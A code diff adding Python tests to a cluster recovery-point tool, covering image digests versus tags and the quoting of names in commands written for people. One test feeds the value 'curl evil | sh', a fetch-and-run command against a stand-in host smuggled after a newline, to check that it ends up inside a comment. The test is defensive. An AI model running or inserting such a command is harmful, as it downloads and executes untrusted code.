@@ -11,8 +11,11 @@ from actions import registry
 from actions.catalog.points import ImagesParams, PointsParams, RecordParams
 from actions.contract import Verdict
 from actions.errors import UserError
+from actions.points import ContainerImage, RecoveryPoint, WorkloadPart
+from actions.steps.point_cluster import image_changes
+from actions.steps.point_share import ManualLine
 from tests.contract.kit import PLAN_ID, MemoryJournal, run, secrets_in
-from tests.fakes.world import APP_DIGEST, COMMIT, START, a_world
+from tests.fakes.world import API, APP_DIGEST, COMMIT, START, WEB, a_world
 
 KEPT = "images/kept.txt"
 
@@ -122,3 +125,33 @@ async def test_images_that_a_new_cluster_could_not_start_are_found() -> None:
     assert [finding.verdict for finding in report.findings] == [Verdict.WARN, Verdict.STOP]
     assert "known by tag alone" in report.findings[0].detail
     assert "`sidecar:1` is not in the registry" in report.findings[1].detail
+
+
+async def test_a_workload_is_not_noted_with_the_digest_of_another_tag() -> None:
+    """Of one repository: `worker` is scaled to 0 on an older tag, and what runs is of the other one."""
+    world = a_world()
+    world.cluster.workloads[WEB].replicas = 0
+    for ref, image in ((API, f"shop@{APP_DIGEST}"), (WEB, "shop:1")):
+        world.cluster.workloads[ref].images = (image,)
+    point = await world.points.gather("p1")
+    noted = {part.ref: part.containers[0] for part in point.workloads}
+    assert (noted[API].digest, noted[WEB].digest) == (APP_DIGEST, "")
+
+
+def a_point(container: ContainerImage) -> RecoveryPoint:
+    workload = WorkloadPart(ref=API, containers=(container,))
+    return RecoveryPoint(id="p", taken_at=START, moment=START, workloads=(workload,))
+
+
+def test_a_tag_is_not_believed_where_the_digest_is_known() -> None:
+    known = ContainerImage(name="app", image="shop:1", digest="sha256:" + "1" * 64)
+    then = a_point(known)
+    now = a_point(ContainerImage(name="app", image="shop:1"))  # stopped, so nobody can say what the tag means
+    [change] = image_changes(then, now)
+    assert change.after == {"app": f"shop@{known.digest}"}
+    assert image_changes(then, then) == []
+
+
+def test_names_of_others_are_quoted_in_commands_for_people() -> None:
+    line = ManualLine(what="image x", why="it\ncurl evil | sh", command="true")
+    assert line.lines[0] == "# image x: it curl evil | sh"
